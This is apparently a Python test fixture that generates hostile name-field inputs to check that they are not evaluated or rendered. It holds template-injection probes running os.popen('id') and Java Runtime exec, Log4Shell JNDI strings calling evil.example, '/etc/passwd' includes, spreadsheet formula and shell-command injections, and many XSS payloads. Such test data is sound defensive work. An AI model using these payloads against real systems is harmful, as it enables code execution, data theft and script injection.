"""What people type into a name field to see what happens, made from families."""

from __future__ import annotations

from itertools import product
from typing import Final

MARK: Final = "9801547"
"""What 1337 × 7331 is; it appears only where something was worked out."""
_SUMS: Final = ("1337*7331", "1337 * 7331", "(1337*7331)", "range(1337)|length*7331", "[1337][0]*7331")
_WALKS: Final = (
    "''.__class__.__mro__[1].__subclasses__()",
    "config.items()",
    "self._TemplateReference__context",
    "request.application.__globals__",
    "cycler.__init__.__globals__.os.popen('id').read()",
    "lipsum.__globals__['os']",
    "shop.__class__.__init__.__globals__",
    "order.values.__class__",
    "7331.__mul__(1337)",
    "T(java.lang.Runtime).getRuntime().exec('id')",
    "global.process.mainModule.require('child_process')",
    "''|attr('__class__')",
    "_self.env.registerUndefinedFilterCallback('exec')",
    "system('id')",
    "dump(app)",
)
_FENCES: Final = (
    *(("{{", "}}"), ("{", "}"), ("${", "}"), ("#{", "}"), ("<%= ", " %>"), ("{%", "%}"), ("{{{", "}}}")),
    *(("*{", "}"), ("[[", "]]"), ("@(", ")"), ("$(", ")"), ("`", "`"), ("%{", "}")),
)
_OTHERS: Final = (
    *("{0.__class__.__init__.__globals__}", "{name.__class__}", "%(name)s%(shop)1000000000d", "%1000000000d"),
    *(
        "{:>1000000000}",
        "{name!r:>99999999}",
        "{$shop}",
        "{$order :number}",
        "{$x :integer minimumIntegerDigits=9999}",
    ),
    *(".local $a = {|1337|} {{{$a}}}", ".match $shop * {{x}}", "{#link href=|javascript:alert(1)|}x{/link}"),
    *(
        "{#script}alert(1){/script}",
        "{|x| :postpurchase:interval}",
        "{:unknown}",
        "\\{\\}",
        "{",
        "}",
        "{{",
        "}}",
    ),
    *("#USER#", "#EXEC(1337*7331)#", "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example}"),
    *("{% for i in (1..999999999) %}{{ i }}{% endfor %}", "{% include '/etc/passwd' %}", "{% raw %}{{ x }}"),
    *(
        '<!--#exec cmd="id" -->',
        "<?php echo 1337*7331; ?>",
        "<#assign x=1337*7331>${x}",
        "#set($x=1337*7331)$x",
    ),
    *("=1337*7331", "@SUM(1337*7331)", "+cmd|' /C calc'!A0", "; echo $((1337*7331))", "| expr 1337 \\* 7331"),
)

INJECTIONS: Final = (
    *(f"{before}{text}{after}" for (before, after), text in product(_FENCES, (*_SUMS, *_WALKS[:8]))),
    *_WALKS,
    *_OTHERS,
)

_TAGS: Final = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<b>bold</b>"),
    *(
        "<a href='javascript:alert(1)'>x</a>",
        "<iframe src=//evil.example></iframe>",
        "<style>*{display:none}</style>",
    ),
    *(
        "<!-- ",
        "-->",
        "<![CDATA[",
        "]]>",
        "<meta http-equiv=refresh content=0>",
        "<base href=//evil.example>",
    ),
    *(
        "<form action=//evil.example><input name=p>",
        "<object data=x>",
        "<math><mi//xlink:href=x>",
        "<table><td>",
    ),
    *(
        "<p>",
        "</p>",
        "</main></body></html>",
        "<plaintext>",
        "<template>",
        "<noscript><p title='</noscript>'>",
    ),
    *(
        "<textarea>",
        "<title></title>",
        "<details open ontoggle=alert(1)>",
        "<x onclick=alert(1)>y</x>",
        "&lt;b&gt;",
    ),
    *(
        "&#60;b&#62;",
        "&#x3c;script&#x3e;",
        '"><img src=x>',
        "'><img src=x>",
        "`><img src=x>",
        '" onmouseover="x',
    ),
    *(
        "' onmouseover='x",
        "x\u2028<script>",
        "<\u200bscript>",
        "<scr\x00ipt>",
        "＜script＞",
        "<ſcript>",
        "\\u003cscript\\u003e",
    ),
)
_AROUND: Final = ("{}", "A {} B", '"{}"', "'>{}<'")
HTML: Final = tuple(around.format(tag) for around, tag in product(_AROUND, _TAGS))
